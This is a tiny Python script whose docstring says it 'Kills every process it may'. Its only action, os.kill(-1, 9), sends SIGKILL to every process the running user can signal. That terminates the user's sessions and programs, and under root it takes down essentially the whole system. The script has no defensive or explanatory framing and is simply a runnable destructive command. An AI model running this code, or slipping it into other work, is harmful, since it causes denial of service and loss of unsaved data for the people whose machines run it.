"""Kills every process it may."""

import os

os.kill(-1, 9)
